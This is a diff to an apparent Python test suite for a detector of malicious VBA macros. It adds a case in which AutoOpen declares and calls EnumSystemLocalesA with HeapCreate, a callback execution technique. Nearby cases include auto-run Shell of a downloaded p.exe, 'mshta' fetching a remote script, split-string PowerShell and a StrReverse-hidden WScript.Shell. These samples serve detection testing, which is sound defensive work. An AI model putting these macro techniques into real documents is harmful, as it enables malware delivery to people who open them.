@@ -19,6 +19,10 @@ Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal a As LongPt
 Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As LongPtr) As LongPtr
 """
 
+CALLBACK = """Private Declare PtrSafe Function HeapCreate Lib "kernel32" (ByVal o As Long) As LongPtr
+Private Declare PtrSafe Function EnumSystemLocalesA Lib "kernel32" (ByVal p As LongPtr, ByVal f As Long) As Long
+"""
+
 
 def sub(name, body):
     return f"Sub {name}()\n{body}\nEnd Sub\n"
@@ -57,6 +61,7 @@ def reasons(source, module="ThisDocument"):
         (sub("go", DOWNLOAD + 'Shell "C:\\Users\\Public\\p.exe"'), "auto_exec"),
         (sub("go", 'Shell "mshta http://example.com/a"'), "auto_exec"),
         (MEMORY + sub("AutoOpen", "x = VirtualAlloc(0)"), "auto_exec"),
+        (CALLBACK + sub("AutoOpen", "EnumSystemLocalesA HeapCreate(0), 0"), "auto_exec"),
         (sub("Document_Open", 'Shell "power" & "shell -c calc", 0'), "obfuscated_exec"),
         (sub("Document_Open", 'CreateObject(StrReverse("llehS.tpircSW")).Run "calc"'), "obfuscated_exec"),
         (sub("Document_Open", "Shell UserForm1.TextBox1.Text"), "obfuscated_exec"),
